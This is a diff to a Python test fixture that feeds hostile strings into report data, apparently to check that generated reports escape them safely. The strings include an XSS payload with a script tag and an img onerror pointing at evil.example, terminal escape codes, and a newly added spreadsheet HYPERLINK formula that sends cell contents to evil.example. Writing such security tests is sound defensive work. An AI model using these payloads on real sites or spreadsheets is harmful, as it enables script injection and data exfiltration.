@@ -25,6 +25,7 @@ from tests.reports.conftest import browser, open_tab
 __all__ = ["browser", "open_tab"]
 
 EVIL = "<script>window.owned=1</script><img src=http://evil.example/x onerror=window.owned=2>\x1b[2J\u202e'\"`"
+FORMULA = '=HYPERLINK("http://evil.example/"&A1)'
 SMOKE = ("smoke-breast-cancer", "smoke-diabetes", "smoke-digits")
 
 
@@ -155,7 +156,10 @@ def hostile(root: Path) -> None:
         report=replace(record.report, error=EVIL),
         llm={"calls": 1, "cost": 1.0, "models": {EVIL: {"provider": EVIL, "calls": 1}}},
     )
-    save_group(root / "hostile", [record], planned=[record.key])
+    other = record_with(competition, "gold", agent="agent", seed=1)
+    llm = {"calls": 1, "cost": 1.0, "models": {f" {FORMULA}": {"provider": EVIL, "calls": 1}}}
+    other = replace(other, agent=EVIL, category=FORMULA, detail=EVIL, llm=llm)
+    save_group(root / "hostile", [record, other], planned=[record.key])
     manifest = root / "hostile/manifest.json"
     values = json.loads(manifest.read_text()) | {"options": {"--title": EVIL}}
     manifest.write_text(json.dumps(values))
@@ -165,6 +169,7 @@ def hostile(root: Path) -> None:
     )
     Findings(version="1", audited_at="", runs=(record.run_id,), findings=(finding,)).write(root / "hostile")
     write_trajectory(run_dir, 5, EVIL)
+    write_trajectory(root / "hostile" / other.run_id, 5, FORMULA)
     log = (
         b"Error: "
         + EVIL.encode()
